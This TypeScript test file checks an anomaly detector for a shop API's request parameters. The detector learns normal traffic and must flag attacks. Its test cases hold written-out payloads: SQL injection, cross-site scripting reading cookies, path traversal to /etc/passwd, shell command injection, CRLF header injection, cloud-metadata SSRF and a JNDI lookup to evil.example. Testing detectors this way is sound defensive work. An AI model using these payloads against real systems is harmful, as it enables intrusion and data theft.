import { describe, expect, it } from 'vitest';
import { parameterCorpus } from '../../../test-support/parameter-corpus.ts';
import { randomFrom } from '../../../test-support/program.ts';
import { flattenParameters } from './flatten.ts';
import {
  decodeEndpointProfile,
  encodeEndpointProfile,
  judgeParameters as judgeSeen,
  learnParameters as learnSeen,
  newEndpointProfile,
  seeParameters,
  type EndpointProfile,
  type ParameterFinding,
} from './parameters.ts';
import { ByteReader } from '../../codec/byte-reader.ts';
import { ByteWriter } from '../../codec/byte-writer.ts';

function bytesOf(profile: EndpointProfile): Buffer {
  const writer = new ByteWriter();
  encodeEndpointProfile(profile, writer);
  return writer.take();
}

type Parameters = Record<string, unknown>;

const learnParameters = (profile: EndpointProfile, parameters: Parameters): void =>
  learnSeen(profile, seeParameters(parameters));
const judgeParameters = (profile: EndpointProfile, parameters: Parameters): ParameterFinding =>
  judgeSeen(profile, seeParameters(parameters));

const pick = <T>(random: () => number, from: readonly T[]): T => from[Math.floor(random() * from.length)]!;
const integer = (random: () => number, low: number, high: number): number =>
  low + Math.floor(random() * (high - low + 1));
const base64 = (random: () => number, length: number): string =>
  Array.from(
    { length },
    () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'[integer(random, 0, 63)]!,
  ).join('');

/** What the endpoints of a shop are usually asked, call number `at` of `of`. */
const traffic: Record<string, (random: () => number, at: number) => Parameters> = {
  'GET /orders': (random, at) => ({
    limit: pick(random, ['10', '20', '50', '100']),
    page: String(1 + Math.floor(-Math.log(1 - random()) * 2)),
    status: pick(random, ['open', 'open', 'paid', 'paid', 'shipped', 'cancelled']),
    sort: pick(random, ['created_at', '-created_at', 'total']),
    since: new Date(1_770_000_000_000 + at * 3_600_000).toISOString().slice(0, 10),
    after_id: String(500_000 + at * 7 + integer(random, 0, 5)),
    ...(random() < 0.5 ? { cursor: base64(random, integer(random, 24, 60)) } : {}),
    ...(random() < 0.2 ? { archived: pick(random, ['true', 'false']) } : {}),
  }),
  'POST /orders': (random) => ({
    customer: {
      name:
        pick(random, [
          'Ana Kovač',
          'Bob Smith',
          'Chen Wei',
          'Dora',
          'Eve Miller',
          'Farid Haddad',
          'Greta Thun',
          'Hugo',
        ]) +
        pick(random, ['', ' Jr', 'son', 'sen', 'i', 'ova']) +
        String.fromCharCode(97 + integer(random, 0, 25)),
      email: `~email~${base64(random, 22)}`,
    },
    items: Array.from({ length: integer(random, 1, 3) }, () => ({
      sku: `SKU-${integer(random, 1000, 9999)}`,
      quantity: integer(random, 1, 4),
      price: Number((5 + random() * 95).toFixed(2)),
    })),
    note:
      pick(random, [
        'Please ring twice',
        'leave it at the door!',
        'Call me: I am at home after 5',
        'no hurry',
        '',
      ]) +
      pick(random, ['', ' thanks', ' and good day', ', please']) +
      (random() < 0.7 ? ` ${base64(random, 3).toLowerCase()}` : ''),
    currency: pick(random, ['EUR', 'EUR', 'USD']),
  }),
  'GET /files': (random) => ({
    path: `/${pick(random, ['docs', 'img'])}/${base64(random, 6)
      .replace(/[^a-z]/gi, 'x')
      .toLowerCase()}.${pick(random, ['pdf', 'png'])}`,
    token: `eyJ${base64(random, integer(random, 60, 160))}.${base64(random, 120)}.${base64(random, 43)}`,
    'tags[]': Array.from({ length: integer(random, 1, 3) }, () => String(integer(random, 1, 90))),
    filter: JSON.stringify({ state: pick(random, ['new', 'old']), size: integer(random, 1, 99) }),
    amount: String(Number((10 + random() * 400).toFixed(2))),
    download: pick(random, ['true', 'false']),
  }),
};

function learnt(endpoint: string, calls: number, seed = 1): EndpointProfile {
  const random = randomFrom(seed);
  const profile = newEndpointProfile();
  for (let at = 0; at < calls; at++) learnParameters(profile, traffic[endpoint]!(random, at));
  return profile;
}

/** An ordinary call with what the case changes. */
function changed(endpoint: string, change: Parameters, seed: number): Parameters {
  const call = { ...traffic[endpoint]!(randomFrom(seed), 300), ...change };
  return Object.fromEntries(Object.entries(call).filter(([, value]) => value !== undefined));
}

const sizes = [200, 2_000];
const O = 'GET /orders';
const P = 'POST /orders';
const F = 'GET /files';
const item = (change: Parameters): Parameters => ({
  items: [{ sku: 'SKU-1234', quantity: 1, price: 20, ...change }],
});

const mustNot: [what: string, endpoint: string, change: Parameters][] = [
  [
    'an ordinary sentence',
    P,
    { note: 'The bell is broken, so please knock on the window next to the door.' },
  ],
  [
    "a name with an apostrophe (O'Brien)",
    P,
    { customer: { name: "Sinéad O'Brien", email: '~email~AAAAAAAAAAAAAAAAAAAAAA' } },
  ],
  ['"select all that apply"', P, { note: 'Select all that apply, or drop the rest from the table' }],
  ['Chinese text', P, { note: '请在晚上送货，谢谢' }],
  ['Arabic text', P, { note: 'من فضلك اتصل بي قبل التسليم' }],
  [
    'a sentence with words of SQL and of a shell',
    P,
    { note: 'Update my order; delete the old one. Rock & cat, or 1 or 2 union members!' },
  ],
  [
    'a sentence with a list in brackets and a call to call back',
    P,
    { note: 'Please select (a or b); call me (tonight). I need 50 % order by 5 pm, where 2 or 3 would do.' },
  ],
  ['emoji', P, { note: 'thanks 🙏🏽🎉' }],
  ['a name in another script', P, { customer: { name: '王小明', email: '~email~AAAAAAAAAAAAAAAAAAAAAA' } }],
  ['a long JWT', F, { token: `eyJ${'aB3'.repeat(90)}.${'xY7-'.repeat(120)}.${'Zq_9'.repeat(20)}` }],
  ['a long cursor', O, { cursor: 'Ab3_'.repeat(28) }],
  ['a locale decimal', F, { amount: '123,45' }],
  ['a locale decimal with a thousands separator', F, { amount: '1.023,45' }],
  ['a whole number where decimals are usual', F, { amount: '250' }],
  ['a date beyond the learnt ones', O, { since: '2026-09-30' }],
  ['a date with a time', O, { since: '2026-02-10T08:15:00Z' }],
  ['ids beyond the learnt ones', O, { after_id: '560123' }],
  ['URL-encoded JSON', F, { filter: '%7B%22state%22%3A%22new%22%2C%22size%22%3A12%7D' }],
  ['JSON with other values', F, { filter: '{"size":104,"state":"new"}' }],
  ['an empty value', O, { status: '' }],
  ['null', P, { note: null }],
  ['a name without a value', O, { status: [] }],
  [
    'UTM parameters',
    O,
    {
      utm_source: 'newsletter',
      utm_medium: 'e-mail',
      utm_campaign: 'Spring Sale 2026',
      gclid: 'EAIaIQobChMI_abc-DEF',
    },
  ],
  ['a case change', O, { status: 'Paid', sort: 'CREATED_AT' }],
  ['a name in another case', O, { STATUS: 'paid', status: undefined }],
  ['a repeated array parameter', F, { 'tags[]': ['1', '2', '3', '4', '5'] }],
  ['an array parameter with positions', F, { 'tags[0]': '4', 'tags[1]': '17' }],
  ['a slightly larger limit', O, { limit: '150' }],
  ['a later page', O, { page: '30' }],
  ['another sku', P, item({ sku: 'SKU-0007' })],
  ['a higher price', P, item({ price: 189.5 })],
  ['a few more of an item', P, item({ quantity: 9 })],
  ['a flag in its other state', F, { download: 'false' }],
  ['a flag in upper case', F, { download: 'TRUE' }],
];

const must: [what: string, endpoint: string, change: Parameters][] = [
  ['SQL injection in an integer', O, { page: "1' OR '1'='1" }],
  ['SQL injection without quotes in an id', O, { after_id: '500100 OR 1=1' }],
  ['SQL injection in an enum', O, { status: "paid' UNION SELECT password FROM users--" }],
  ['SQL injection in a sort order', O, { sort: '(select sleep(5))' }],
  ['cross-site scripting in an enum', O, { status: '<script>alert(1)</script>' }],
  ['cross-site scripting in a number', F, { amount: '"><img src=x onerror=alert(1)>' }],
  ['path traversal in an enum', O, { status: '../../etc/passwd' }],
  ['path traversal in a path', F, { path: '../../../../etc/passwd' }],
  ['command injection in a number', O, { limit: '10; cat /etc/passwd' }],
  ['command injection in an enum', P, { currency: 'EUR$(whoami)' }],
  ['letters in an id', O, { after_id: 'abc' }],
  ['letters among the digits of an id', O, { after_id: '5001a2' }],
  ['limit=1000000', O, { limit: '1000000' }],
  ['a negative page', O, { page: '-1' }],
  ['a negative amount', F, { amount: '-1' }],
  ['a price of 0.01', P, item({ price: 0.01 })],
  ['a negative quantity', P, item({ quantity: -5 })],
  ['a quantity of 100000', P, item({ quantity: 100_000 })],
  ['an exponent', O, { limit: '1e9' }],
  ['a value 20 times as long', P, { note: 'all work and no play '.repeat(60) }],
  ['an enum value 20 times as long', O, { status: 'paid'.repeat(40) }],
  ['double encoding', F, { path: '/docs/%252e%252e%252fsecret.pdf' }],
  ['double encoding in an id', O, { after_id: '%2527' }],
  ['a null byte', F, { path: '/docs/a.pdf\u0000.png' }],
  ['an encoded null byte', F, { path: '/docs/a.php%00.pdf' }],
  ['CRLF with a header', O, { sort: 'total\r\nSet-Cookie: admin=1' }],
  ['encoded CRLF', O, { sort: 'total%0d%0aLocation: https://evil.example' }],
  ['parameter pollution', O, { status: ['paid', 'open'] }],
  ['parameter pollution of a number', F, { amount: ['12.50', '0.50'] }],
  ['mass assignment: role=admin', P, { role: 'admin' }],
  [
    'mass assignment in a nested object',
    P,
    { customer: { name: 'Bob Smith', email: '~email~AAAAAAAAAAAAAAAAAAAAAA', is_admin: true } },
  ],
  ['debug=true', O, { debug: 'true' }],
  ['an unknown parameter', O, { internal_view: '1' }],
  ['a query operator', O, { status: { $ne: null } }],
  ['a query operator in JSON', F, { filter: '{"state":{"$ne":null},"size":1}' }],
  ['a URL of a metadata service in a path', F, { path: 'http://169.254.169.254/latest/meta-data/' }],
  ['a foreign URL in a path', F, { path: 'https://evil.example/x.pdf' }],
  ['a template expression', O, { status: '{{7*7}}' }],
  ['a JNDI lookup', F, { token: '${jndi:ldap://evil.example/a}' }],
  ['a JNDI lookup in free text', P, { note: '${jndi:ldap://evil.example/a}' }],
  ['SQL in free text', P, { note: "thanks'; DROP TABLE users; --" }],
  ['a shell command in free text', P, { note: 'thanks; cat /etc/passwd' }],
  ['a condition that is always true in free text', P, { note: "thanks') as t where 3064=3064 and 1=2#" }],
  ['an order of columns in free text', P, { note: "thanks' order by 4--" }],
  [
    'a second SQL statement in free text',
    P,
    { note: "1');select count(*) from all_users t1,all_users t2--" },
  ],
  ['a SQL function in free text', P, { note: "1')) or elt(4249=4249,7259) and (('a'='a" }],
  [
    'a SQL procedure in free text',
    P,
    { note: '1));call regexp_substring(repeat(right(char(2385),0),500),null)--' },
  ],
  ['a program in free text', P, { note: 'thanks | /usr/bin/id' }],
  ['reading cookies in free text', P, { note: '<b onx=1>document.cookie' }],
  ['a .bak file', F, { path: '/docs/config.bak' }],
  ['a file ending in ~', F, { path: '/docs/index.pdf~' }],
  ['a value off the enum', O, { status: 'refunded' }],
  ['a field off the enum', O, { sort: 'password_hash' }],
  ['a currency off the enum', P, { currency: 'XAU' }],
  ['a word for a flag', F, { download: 'maybe' }],
];

describe.each(sizes)('after %i calls', (calls) => {
  const profiles = new Map(Object.keys(traffic).map((endpoint) => [endpoint, learnt(endpoint, calls)]));

  it.each(mustNot)('does not alert on %s', (_, endpoint, change) => {
    const finding = judgeParameters(profiles.get(endpoint)!, changed(endpoint, change, 7));
    expect(finding.alert, `${finding.score} ${finding.reasons.join('; ')}`).toBe(false);
  });

  it.each(must)('alerts on %s, and says why', (_, endpoint, change) => {
    const finding = judgeParameters(profiles.get(endpoint)!, changed(endpoint, change, 7));
    expect(finding.alert, `${finding.score} ${finding.reasons.join('; ')}`).toBe(true);
    expect(finding.score).toBeGreaterThanOrEqual(0.5);
    expect(finding.reasons.length).toBeGreaterThan(0);
  });

  it('does not alert on ordinary calls in another order', () => {
    const random = randomFrom(99);
    let alerts = 0;
    for (const [endpoint, profile] of profiles) {
      for (let at = 0; at < 300; at++) {
        const call = traffic[endpoint]!(random, calls + at);
        const reversed = Object.fromEntries(Object.entries(call).reverse());
        if (judgeParameters(profile, reversed).alert) alerts++;
      }
    }
    expect(alerts).toBeLessThanOrEqual(1);
  });
});

describe('few or dirty calls to learn from', () => {
  it.each([10, 20, 50])('stays calm about slightly longer and larger values after %i calls', (calls) => {
    const orders = learnt(O, calls);
    for (const change of [
      { limit: '120' },
      { page: '9' },
      { after_id: '501000' },
      { cursor: 'aB3_'.repeat(20) },
    ]) {
      const finding = judgeParameters(orders, changed(O, change, 3));
      expect(finding.alert, finding.reasons.join('; ')).toBe(false);
    }
    const writes = learnt(P, calls);
    const note = {
      note: 'A somewhat longer note than those before, as there is more to say about the door.',
    };
    expect(judgeParameters(writes, changed(P, note, 3)).alert).toBe(false);
  });

  it('knows an injection in a number after 10 calls', () => {
    expect(judgeParameters(learnt(O, 10), changed(O, { page: "1' OR '1'='1" }, 3)).alert).toBe(true);
  });

  it('is surprised by nothing before it has learnt anything', () => {
    expect(judgeParameters(newEndpointProfile(), { id: "1' OR 1=1" })).toMatchObject({
      score: 0,
      alert: false,
    });
  });

  it('is not taught by a few attacks among a thousand calls that such attacks are usual', () => {
    const profile = learnt(O, 998);
    learnParameters(profile, changed(O, { limit: '1000000' }, 1));
    learnParameters(profile, changed(O, { page: "1' OR '1'='1", role: 'admin' }, 2));
    for (const change of [
      { limit: '1000000' },
      { page: "1' OR '1'='1" },
      { page: '1 UNION SELECT 1' },
      { role: 'admin' },
    ]) {
      const finding = judgeParameters(profile, changed(O, change, 5));
      expect(finding.alert, JSON.stringify(change)).toBe(true);
    }
  });

  it('learns what becomes usual', () => {
    const profile = learnt(O, 300);
    for (let at = 0; at < 10; at++) learnParameters(profile, changed(O, { status: 'refunded' }, at));
    expect(judgeParameters(profile, changed(O, { status: 'refunded' }, 11)).alert).toBe(false);
  });
});

describe('bounds', () => {
  it('keeps the state of an endpoint small whatever names and values come', () => {
    const profile = newEndpointProfile();
    const random = randomFrom(5);
    for (let at = 0; at < 3_000; at++) {
      const call: Parameters = {};
      for (let name = 0; name < 20; name++) call[base64(random, 30)] = base64(random, 200);
      call['usual'] = base64(random, 100);
      learnParameters(profile, call);
    }
    expect(bytesOf(profile).length).toBeLessThan(100_000);
    expect(judgeParameters(profile, { usual: 'x', [base64(random, 30)]: 'y' }).alert).toBe(false);
  });

  it('survives hostile values in linear time', () => {
    const profile = learnt(O, 200);
    const hostile = [
      'a'.repeat(1_000_000),
      '%25'.repeat(100_000),
      '{'.repeat(100_000),
      `${'('.repeat(50_000)}${')'.repeat(50_000)}`,
      `<${'a '.repeat(100_000)}`,
      `' or ${' '.repeat(100_000)}`,
      '/..'.repeat(100_000),
      ',a'.repeat(100_000),
      '\ud800\u0000',
    ];
    const begunAt = performance.now();
    for (const value of hostile) {
      expect(judgeParameters(profile, changed(O, { status: value }, 1)).alert).toBe(true);
    }
    expect(performance.now() - begunAt).toBeLessThan(2_000);
  });

  it('flattens by names and bounds depth, names and values', () => {
    const { values } = flattenParameters({
      a: { B: [{ c: 1 }, { c: [2, 3] }], d: {} },
      'x[3]': 'y',
      e: [],
    });
    expect([...values]).toEqual([
      ['a.b.c', { values: [1, 2, 3], count: 3 }],
      ['a.d', { values: [], count: 0 }],
      ['x[]', { values: ['y'], count: 1 }],
      ['e', { values: [], count: 0 }],
    ]);
    let deep: unknown = 1;
    for (let level = 0; level < 10_000; level++) deep = { a: deep };
    expect(flattenParameters({ deep }).beyond).toBe(1);
    expect(
      flattenParameters({ many: Array.from({ length: 1_000 }, (_, at) => at) }).values.get('many'),
    ).toMatchObject({ count: 1_000 });
  });

  it('says nothing of the values themselves', () => {
    const profile = learnt(F, 300);
    const finding = judgeParameters(
      profile,
      changed(F, { download: 'hunter2-secret', extra: 'hunter2-secret' }, 1),
    );
    expect(finding.alert).toBe(true);
    expect(finding.reasons.join()).not.toContain('hunter2');
    expect(bytesOf(profile).includes('docs')).toBe(false);
  });

  it('judges the same from a state that was encoded and decoded', () => {
    const profile = learnt(P, 500);
    const copy = decodeEndpointProfile(new ByteReader(bytesOf(profile)));
    const random = randomFrom(8);
    for (let at = 0; at < 50; at++) {
      const call = changed(P, at % 2 === 0 ? {} : { currency: 'XXX', role: 'x' }, at);
      expect(judgeParameters(copy, call)).toEqual(judgeParameters(profile, call));
      const next = traffic[P]!(random, at);
      learnParameters(profile, next);
      learnParameters(copy, next);
    }
    expect(bytesOf(copy)).toEqual(bytesOf(profile));
  });
});

describe('quality on the generated corpus', () => {
  it.each([
    [50, 0, 0.98, 0.85],
    [200, 0, 0.98, 0.92],
    [1_000, 0.003, 0.98, 0.9],
  ])(
    'with %i calls to learn from, of which %f are attacks: precision >= %f, recall >= %f',
    (calls, strays, precision, recall) => {
      let right = 0;
      let wrong = 0;
      let missed = 0;
      for (const { training, test } of parameterCorpus({ seed: 101, endpoints: 20, calls, strays })) {
        const profile = newEndpointProfile();
        for (const call of training) learnParameters(profile, call);
        for (const call of test) {
          const { alert } = judgeParameters(profile, call.parameters);
          if (alert && call.attack) right++;
          else if (alert) wrong++;
          else if (call.attack) missed++;
        }
      }
      expect(right / (right + wrong)).toBeGreaterThanOrEqual(precision);
      expect(right / (right + missed)).toBeGreaterThanOrEqual(recall);
    },
  );
});
